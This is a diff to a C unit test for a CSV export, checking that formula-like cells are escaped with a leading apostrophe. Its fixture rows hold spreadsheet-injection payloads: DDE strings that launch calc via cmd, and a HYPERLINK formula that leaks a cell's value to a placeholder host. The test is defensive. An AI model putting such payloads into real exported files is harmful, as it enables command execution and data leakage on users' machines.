@@ -316,7 +316,7 @@ test_csv_formulas(void **state)
 	static const char *const rows[][RM_NCOLS] = {
 	    {"ITU-T SG17", "=HYPERLINK(\"http://x.example/?\"&A1,\"update\")", "+cmd", "@SUM(A1:A9)",
 	        "-cmd|' /C calc'!A0", "General", "\tX.sec"},
-	    {"ITU-T SG17", "-5", "- draft", "Title with = inside", "Published", "-", "\rY.sec"},
+	    {"ITU-T SG17", "-2+3+cmd|' /C calc'!A0", " @SUM(A1)", "Title with = inside", "Published", "-5", "\rY.sec"},
 	};
 	struct fx *f = *state;
 	struct rm_entries e = {0};
@@ -331,7 +331,9 @@ test_csv_formulas(void **state)
 	assert_non_null(strstr(b.s,
 	    "\r\nITU-T SG17,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"update\"\")\",'+cmd,"
 	    "'@SUM(A1:A9),'-cmd|' /C calc'!A0,General,'\tX.sec,"));
-	assert_non_null(strstr(b.s, "\r\nITU-T SG17,-5,- draft,Title with = inside,Published,-,\"'\rY.sec\","));
+	/* A leading '-' is a formula even before a digit (OWASP): "-2+3+cmd|…" would run. */
+	assert_non_null(strstr(
+	    b.s, "\r\nITU-T SG17,'-2+3+cmd|' /C calc'!A0,' @SUM(A1),Title with = inside,Published,'-5,\"'\rY.sec\","));
 	buf_reset(&b);
 
 	/* The other exports show the cells as written. */
@@ -374,7 +376,7 @@ test_ctl(void **state)
 	    {1, {"roadmap", "export", "--format", "csv", "-o", "/nonexistent/dir/x.csv", NULL}},
 	};
 	struct fx *f = *state;
-	struct ctl_ctx ctx = {NULL, f->st, f->sdos, NULL};
+	struct ctl_ctx ctx = {NULL, f->st, f->sdos, NULL, 0};
 	char *out = xasprintf("%s/out", f->dir), *data = NULL, *err = NULL;
 	long long d = add_doc(f->st, "<c@example.org>", "ctl", 100);
 	size_t len;
